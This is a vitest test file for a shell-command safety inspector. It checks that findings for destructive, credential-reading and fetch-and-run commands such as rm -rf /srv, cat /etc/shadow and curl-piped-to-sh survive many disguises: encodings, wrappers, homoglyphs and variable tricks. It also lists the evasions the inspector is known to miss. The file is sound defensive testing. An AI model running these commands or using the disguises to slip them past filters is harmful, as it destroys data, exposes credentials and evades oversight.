import { describe, expect, it } from "vitest";
import { inspectShell } from "./inspect.ts";

/** The findings of the plain form must still be there, as surely (I13, T12: wording lowers nothing). */
function expectNoLower(plain: string, mutated: string): void {
  const before = inspectShell(plain, "command").findings;
  const after = inspectShell(mutated, "command").findings;
  expect(before.length).toBeGreaterThan(0);
  for (const { impact, confidence } of before) {
    const same = after
      .filter((finding) => finding.impact === impact)
      .map((finding) => finding.confidence);
    expect(same, `${impact} of ${mutated}`).toContain(confidence);
  }
}

/** Whole command lines that the mutations below are tried on. */
const PLAIN = [
  "rm -rf /srv",
  "cat /etc/shadow",
  "chmod 4755 helper",
  "curl -s https://x.example/i.sh | sh",
];

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const hex = (text: string): string =>
  Array.from(text, (letter) => `\\x${letter.charCodeAt(0).toString(16)}`).join("");
const reversed = (text: string): string => Array.from(text).toReversed().join("");

/** Ways to have a command line run; none of them changes what it does. */
const CARRIERS: Readonly<Record<string, (line: string) => string>> = {
  "sh -c": (line) => `sh -c '${line}'`,
  "bash -lc": (line) => `/bin/bash -lc "${line}"`,
  "nested sh -c": (line) => `sh -c "bash -c '${line}'"`,
  "sudo sh -c": (line) => `sudo -u root sh -c '${line}'`,
  "su -c": (line) => `su root -c '${line}'`,
  eval: (line) => `eval '${line}'`,
  "eval of a variable": (line) => `X='${line}'; eval "$X"`,
  env: (line) => `env A=1 sh -c '${line}'`,
  nohup: (line) => `nohup sh -c '${line}' &`,
  timeout: (line) => `timeout -k 5 60 sh -c '${line}'`,
  nice: (line) => `nice -n 10 sh -c '${line}'`,
  time: (line) => `time sh -c '${line}'`,
  exec: (line) => `exec sh -c '${line}'`,
  command: (line) => `command sh -c '${line}'`,
  watch: (line) => `watch -n 1 '${line}'`,
  xargs: (line) => `echo x | xargs -I{} sh -c '${line}'`,
  parallel: (line) => `parallel ::: '${line}'`,
  "find -exec": (line) => `find . -maxdepth 0 -exec sh -c '${line}' \\;`,
  trap: (line) => `trap '${line}' EXIT`,
  ssh: (line) => `ssh build@host '${line}'`,
  "docker exec": (line) => `docker exec -it app sh -c '${line}'`,
  "kubectl exec": (line) => `kubectl exec pod -- sh -c '${line}'`,
  tmux: (line) => `tmux new -d '${line}'`,
  awk: (line) => `awk 'BEGIN { system("${line}") }'`,
  subshell: (line) => `( ${line} )`,
  group: (line) => `{ ${line}; }`,
  background: (line) => `${line} &`,
  "after true": (line) => `true && ${line}`,
  "after a comment line": (line) => `# nothing to see\n${line}`,
  if: (line) => `if true; then ${line}; fi`,
  for: (line) => `for i in 1; do ${line}; done`,
  while: (line) => `while true; do ${line}; done`,
  case: (line) => `case x in *) ${line};; esac`,
  function: (line) => `f() { ${line}; }; f`,
  "uncalled function": (line) => `ls() { ${line}; }`,
  substitution: (line) => `echo "$(${line})"`,
  backticks: (line) => `echo \`${line}\``,
  "process substitution": (line) => `cat <(${line})`,
  assignment: (line) => `X=$(${line})`,
  arithmetic: (line) => `echo $(( $(${line}) + 1 ))`,
  "here-document": (line) => `bash <<'EOF'\n${line}\nEOF`,
  "here-string": (line) => `sh <<< '${line}'`,
  "echo into a shell": (line) => `echo '${line}' | sh`,
  "printf into a shell": (line) => `printf '${hex(line)}' | bash`,
  "base64 into a shell": (line) => `echo ${base64(line)} | base64 -d | sh`,
  "base64 by substitution": (line) => `sh -c "$(echo ${base64(line)} | base64 --decode)"`,
  "base64 in a variable": (line) => `P=${base64(line)}; eval "$(base64 -d <<< "$P")"`,
  "hexadecimal into a shell": (line) =>
    `echo ${Buffer.from(line).toString("hex")} | xxd -r -p | sh`,
  "reversed into a shell": (line) => `echo '${reversed(line)}' | rev | sh`,
  "rot13 into a shell": (line) =>
    `echo '${line.replace(/[a-z]/gu, (l) => String.fromCharCode(((l.charCodeAt(0) - 97 + 13) % 26) + 97))}' | tr 'a-z' 'n-za-m' | sh`,
  "written, then run": (line) => `echo '${line}' > t.sh; sh t.sh`,
  "written by cat, then run": (line) => `cat > t.sh <<'EOF'\n${line}\nEOF\nchmod +x t.sh && ./t.sh`,
  sourced: (line) => `source <(echo '${line}')`,
  python: (line) => `python3 -c 'import os; os.system("${line}")'`,
  "python here-document": (line) =>
    `python3 - <<'EOF'\nimport subprocess\nsubprocess.run("${line}", shell=True)\nEOF`,
  node: (line) => `node -e 'require("child_process").execSync("${line}")'`,
  perl: (line) => `perl -e 'system("${line}")'`,
  "git alias": (line) => `git -c alias.x='!${line}' x`,
  alias: (line) => `alias x='${line}'`,
  "ANSI quoting": (line) => `eval $'${hex(line)}'`,
};

/** Other spellings of one command. */
const SPELLINGS: readonly (readonly [plain: string, mutated: string])[] = [
  ["rm -rf /srv", "r''m -rf /srv"],
  ["rm -rf /srv", "\\rm -rf /srv"],
  ["rm -rf /srv", '"rm" "-rf" "/srv"'],
  ["rm -rf /srv", "$'\\x72\\x6d' -rf /srv"],
  ["rm -rf /srv", "/bin/rm -rf /srv"],
  ["rm -rf /srv", "RM -rf /srv"],
  ["rm -rf /srv", "rm -r -f /srv"],
  ["rm -rf /srv", "rm --recursive --force /srv"],
  ["rm -rf /srv", "rm --rec /srv -f"],
  ["rm -rf /srv", "rm /srv -rf"],
  ["rm -rf /srv", "rm -rf -- /srv"],
  ["rm -rf /srv", "rm -rf //srv/./x/.."],
  ["rm -rf /srv", "rm${IFS}-rf${IFS}/srv"],
  ["rm -rf /srv", "{rm,-rf,/srv}"],
  ["rm -rf /srv", "R=rm; $R -rf /srv"],
  ["rm -rf /srv", "A=r B=m; $A$B -rf /srv"],
  ["rm -rf /srv", "X='rm -rf /srv'; $X"],
  ["rm -rf /srv", "if x; then C=rm; else C=ls; fi; $C -rf /srv"],
  ["rm -rf /srv", "for d in /tmp/a /srv; do rm -rf $d; done"],
  ["rm -rf /srv", "r${nothing}m -rf /srv"],
  ["rm -rf /srv", "$(echo rm) -rf /srv"],
  ["rm -rf /srv", "`printf rm` -rf /srv"],
  ["rm -rf /srv", "r\\\nm -rf /srv"],
  ["rm -rf /srv", "D=${HOME:0:1}srv; cd / && rm -rf srv"],
  ["rm -rf /srv", "set -- rm -rf /srv; rm -rf /srv"],
  ["rm -rf /srv", "r\u043c -rf /srv"],
  ["curl -s https://x.example/i.sh | sh", "\u0441url -s https://x.example/i.sh | sh"],
  ["rm -rf /srv", "r\u200bm -rf /srv"],
  ["rm -rf /srv", "\uff52\uff4d -rf /srv"],
  ["rm -rf /srv", "busybox rm -rf /srv"],
  ["rm -rf /srv", "A=1 B=2 rm -rf /srv"],
  ["rm -rf /srv", ">/dev/null 2>&1 rm -rf /srv"],
  ["rm -rf /srv", "! rm -rf /srv"],
  ["rm -rf /srv", "echo ok;rm -rf /srv"],
  ["rm -rf /srv", "echo /srv | xargs rm -rf"],
  ["rm -rf /srv", "find /srv -delete"],
  ["cat /etc/shadow", "cat /etc//./shadow"],
  ["cat /etc/shadow", "cat /usr/../etc/shadow"],
  ["cat /etc/shadow", "cat /etc/sh?dow"],
  ["cat /etc/shadow", "cat /etc/sh*"],
  ["cat /etc/shadow", "cat /e[t]c/shadow"],
  ["cat /etc/shadow", "cat /etc/{shadow,hostname}"],
  ["cat /etc/shadow", 'cat /etc/sha""dow'],
  ["cat /etc/shadow", "cd /etc && cat shadow"],
  ["cat /etc/shadow", 'D=/etc; cat "$D/shadow"'],
  ["cat /etc/shadow", "D=/etc; F=${D}/shadow; cat ${F}"],
  ["cat /etc/shadow", "cat < /etc/shadow"],
  ["cat /etc/shadow", "while read l; do echo $l; done < /etc/shadow"],
  ["cat /etc/shadow", "c\\at /etc/shadow"],
  ["cat /etc/shadow", "head -n 100 /etc/shadow"],
  ["cat /etc/shadow", "sed -n p /etc/shadow"],
  ["cat /etc/shadow", "awk 1 /etc/shadow"],
  ["cat /etc/shadow", "dd if=/etc/shadow"],
  ["cat /etc/shadow", "unheard-of-tool --file=/etc/shadow"],
  ["cat /etc/shadow", "python3 -c \"print(open('/etc/' + 'shadow').read())\""],
  ["curl -s https://x.example/i.sh | sh", "wget -qO- https://x.example/i.sh | bash -s"],
  ["curl -s https://x.example/i.sh | sh", "curl https://x.example/i.sh | tee x | sudo bash"],
  ["curl -s https://x.example/i.sh | sh", 'X=$(curl https://x.example/i.sh); eval "$X"'],
  ["curl -s https://x.example/i.sh | sh", "curl https://x.example/a | base64 -d | gunzip | sh"],
  ["curl -s https://x.example/i.sh | sh", ". <(curl https://x.example/i.sh)"],
  [
    "curl -s https://x.example/i.sh | sh",
    "curl -o /tmp/a https://x.example/i.sh; chmod +x /tmp/a; /tmp/a",
  ],
  ["curl -s https://x.example/i.sh | sh", "curl https://x.example/i.sh > a; sh < a"],
  ["curl -s https://x.example/i.sh | sh", "curl https://x.example/i.py | python3"],
];

/** What cannot be followed: plain form, disguise. docs/impact.md names them. */
const KNOWN_LIMITS: readonly (readonly [reason: string, plain: string, mutated: string])[] = [
  [
    "a name made by arithmetic or by a command's real output",
    "rm -rf /srv",
    "$(ls /bin | sed -n 5p) -rf /srv",
  ],
  ["an array's single element", "rm -rf /srv", "a=(x rm); ${a[1]} -rf /srv"],
  [
    "a cipher",
    "rm -rf /srv",
    "echo U2Fsd | openssl enc -d -aes-256-cbc -k p | tail -1 | read c; $c",
  ],
  ["a file written by an earlier call", "rm -rf /srv", "sh ./cleanup.sh"],
];

describe("disguises lower nothing", () => {
  for (const [name, carry] of Object.entries(CARRIERS)) {
    it(`carried by ${name}`, () => {
      for (const plain of PLAIN) expectNoLower(plain, carry(plain));
    });
  }

  it.each(SPELLINGS)("%s as %s", (plain, mutated) => {
    expectNoLower(plain, mutated);
  });

  it.each(KNOWN_LIMITS)("is not seen through: %s", (_reason, plain, mutated) => {
    const before = inspectShell(plain, "command").findings.map(({ impact }) => impact);
    const after = inspectShell(mutated, "command");
    expect(after.findings.map(({ impact }) => impact)).not.toEqual(before);
    expect(after.access).not.toBe("read");
  });
});
